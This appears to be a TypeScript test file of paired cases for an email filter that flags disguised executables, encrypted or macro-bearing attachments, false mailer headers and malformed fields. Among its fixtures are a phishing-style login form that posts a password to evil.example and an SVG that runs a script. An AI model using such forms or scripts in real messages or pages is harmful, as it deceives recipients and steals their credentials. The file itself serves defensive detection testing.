import { type Case, headers, long, page } from './case.ts'

const shown = `<p>${long}Please bring the drawings of the garden, your tape measure and some good ideas about trees.</p>`
const both = (alternative: string) => ({ html: `<html><body>${shown}</body></html>`, alternative })
const parts = (type: string, head = {}): { headers: Record<string, string | null>; body: string } => ({
  headers: { 'Content-Type': `${type}; boundary=b`, ...head },
  body: '--b\r\nContent-Type: text/plain\r\n\r\nHello\r\n--b--\r\n',
})
const outlook = { 'X-Mailer': 'Microsoft Outlook 16.0' }
const apple = { 'X-Mailer': 'Apple Mail (2.3774.100.2.1.4)' }

/** A ZIP of stored files, without a byte of content. */
function zip(names: string[], flags = 0): string {
  const two = (value: number) => String.fromCharCode(value & 255, value >> 8)
  const local = (name: string) => `PK\x03\x04\x14\0${two(flags)}${'\0'.repeat(18)}${two(name.length)}\0\0${name}`
  return `${names.map(local).join('')}PK\x01\x02${'\0'.repeat(42)}`
}
const program = `MZ${'\0'.repeat(58)}\x40\0\0\0PE\0\0${'\0'.repeat(20)}`
const attached = (attachment: string, content: string) => ({ attachment, content })

export const BODY_CASES: Case[] = [
  [
    'LETTERS_ENCODED',
    'plain letters as bytes',
    headers({ Subject: '=?utf-8?q?=57=69=6E=6E=65=72?=' }),
    headers({ Subject: '=?utf-8?q?Gr=C3=BC=C3=9Fe_aus_K=C3=B6ln?=' }),
  ],
  [
    'MIME_VERSION_MISSING',
    'parts without the field',
    parts('multipart/mixed', { 'MIME-Version': null }),
    parts('multipart/mixed'),
  ],
  [
    'UNSUBSCRIBE_MALFORMED',
    'no address',
    headers({ 'List-Unsubscribe': '<abc.1.2@shop.example>' }),
    headers({ 'List-Unsubscribe': '<mailto:off@shop.example>, <https://shop.example/off>' }),
  ],
  ['MULTIPART_ODD', 'a digest of nothing', parts('multipart/digest'), parts('multipart/mixed')],
  ['MULTIPART_ODD', 'a report of nothing', parts('multipart/report'), parts('multipart/related')],
  ['TEXT_MOJIBAKE', 'garbled letters', page('FÃ¼r Sie: ein schÃ¶ner Tag'), page('Für Sie: ein schöner Tag')],
  [
    'DATE_WITHOUT_ZONE',
    'no zone',
    headers({ Date: 'Mon, 02 Nov 2026 09:59:00' }),
    headers({ Date: 'Mon, 02 Nov 2026 09:59:00 GMT' }),
  ],
  ['MAILER_FALSE', 'HTML alone from Outlook', page('<p>Hi</p>', outlook), { ...both(long), headers: {} }],
  [
    'MAILER_FALSE',
    "not Outlook's boundary",
    parts('multipart/mixed', outlook),
    {
      headers: { 'Content-Type': 'multipart/mixed; boundary="----=_NextPart_000_0001"', ...outlook },
      body: '------=_NextPart_000_0001\r\n\r\nHello\r\n------=_NextPart_000_0001--\r\n',
    },
  ],
  [
    'MAILER_FALSE',
    "not Apple's boundary",
    parts('multipart/alternative', apple),
    {
      headers: { 'Content-Type': 'multipart/mixed; boundary="Apple-Mail=_1"', ...apple },
      body: '--Apple-Mail=_1\r\n\r\nHello\r\n--Apple-Mail=_1--\r\n',
    },
  ],
  [
    'ALTERNATIVES_DIFFER',
    'another text',
    both('Fold the whipped cream into the dough and bake everything for forty minutes until golden brown outside'),
    both(long),
  ],
  ['ALTERNATIVE_TEXT_EMPTY', 'nothing to read', both('normal'), both('Read it at https://shop.example/1')],

  [
    'ATTACHMENT_DISGUISED_PROGRAM',
    'a program as a picture',
    attached('photo.jpg', program),
    attached('photo.jpg', 'MZ'),
  ],
  [
    'ATTACHMENT_DISGUISED_PROGRAM',
    'not one that says so',
    attached('photo.dat', program),
    attached('setup.exe', program),
  ],
  [
    'ATTACHMENT_DISGUISED_PROGRAM',
    'not a part of one, which starts nothing',
    attached('plugin.dll.pdf', program),
    attached('plugin.dll', program),
  ],
  [
    'ATTACHMENT_DISGUISED_PROGRAM',
    'not a library of another system',
    attached('libfoo.png', '\x7fELF'),
    attached('libfoo.so.1', '\x7fELF'),
  ],
  [
    'ARCHIVE_HOLDS_PROGRAM',
    'a program',
    attached('a.zip', zip(['invoice.exe'])),
    attached('a.zip', zip(['invoice.pdf'])),
  ],
  [
    'ARCHIVE_HOLDS_PROGRAM',
    'a lone script',
    attached('a.zip', zip(['a.js'])),
    attached('a.zip', zip(['a.js', 'b.js'])),
  ],
  ['ATTACHMENT_ENCRYPTED', 'a ZIP', attached('a.zip', zip(['a.doc'], 1)), attached('a.zip', zip(['a.doc']))],
  [
    'ATTACHMENT_ENCRYPTED',
    'a RAR',
    attached('a.rar', 'Rar!\x1a\x07\x01\0CRC4\x0a\x04\0\0'),
    attached('a.rar', 'Rar!\x1a\x07\x01\0CRC4\x0a\x01\0\0'),
  ],
  [
    'ATTACHMENT_MACROS',
    'in a package',
    attached('a.docx', zip(['[Content_Types].xml', 'word/vbaProject.bin'])),
    attached('a.docx', zip(['[Content_Types].xml', 'word/document.xml'])),
  ],
  ['ATTACHMENT_MACROS', 'by name', attached('a.xlsm', ''), attached('a.xlsx', '')],
  [
    'ATTACHMENT_MACROS',
    'in an old document',
    attached('a.doc', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 _\0V\0B\0A\0_\0P\0R\0O\0J\0E\0C\0T\0'),
    attached('a.doc', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 W\0o\0r\0d\0'),
  ],
  [
    'ATTACHMENT_ACTS',
    'a login page',
    attached('a.html', '<form action="https://evil.example"><input type=password></form>'),
    attached('a.html', '<p>A report.</p>'),
  ],
  [
    'ATTACHMENT_ACTS',
    'a page made in the dark',
    attached('a.svg', '<svg><script>document.write(atob("x"))</script></svg>'),
    attached('a.svg', '<svg><path d="M0 0"/></svg>'),
  ],
]
